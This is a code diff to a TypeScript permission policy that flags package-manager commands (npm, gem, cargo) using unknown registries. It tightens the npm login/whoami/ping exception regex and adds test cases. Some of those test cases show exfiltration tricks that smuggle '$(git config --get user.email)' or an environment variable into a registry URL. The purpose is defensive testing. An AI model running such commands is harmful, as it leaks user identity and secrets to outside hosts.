@@ -125,7 +125,10 @@ export const packages: readonly Policy[] = [
         command(NPM, {
           words: new RegExp(String.raw`(?:--registry[= ]|\bregistry[= ])['"]?https?:\/\/(?!${KNOWN_REGISTRY})`),
         }),
-        not(command(NPM, { words: /^(?:login|adduser|logout|whoami|ping)(?: --(?:registry|auth-type)[= ]\S+)*$/ })),
+        not(command(NPM, {
+          words:
+            /^(?:login|adduser|logout|whoami|ping)(?: --(?:registry[= ]https:\/\/[\w.-]+(?::\d+)?(?:\/[\w.-]+)*\/?|auth-type[= ]\w+))*$/,
+        })),
       ),
       command("gem", { words: /(?:^|\s)(?:-s|--source|-a|--add)[= ]?https?:\/\/(?!rubygems\.org|localhost)/ }),
       command("cargo", { words: /--(?:index|registry)[= ]\S/ }),
@@ -157,6 +160,8 @@ export const packages: readonly Policy[] = [
       "pip install --find-links=https://pypi.example.com/wheels tool",
       "npm login --scope=@ada --registry=https://npm.example.com",
       "npm --tag login install tool --registry=https://npm.example.com",
+      "npm ping --registry=https://npm.example.com/$(git config --get user.email)",
+      "npm whoami --registry=https://npm.example.com/?$SHOP",
       "gem install tool --source https://gems.example.com",
       "dotnet tool install tool --add-source https://nuget.example.com/v3/index.json",
       "brew tap ada/tool https://git.example.com/tap.git",
@@ -170,6 +175,7 @@ export const packages: readonly Policy[] = [
       "npm install",
       "npm ping --registry https://registry.npmjs.org",
       "npm login --registry=https://npm.example.com --auth-type=legacy",
+      "npm ping --registry=https://npm.example.com:4873/npm/",
       "npm whoami --registry https://npm.example.com",
       "dotnet add package Tool --source https://api.nuget.org/v3/index.json",
       "UV_INDEX_URL=https://pypi.org/simple uv pip install tool",
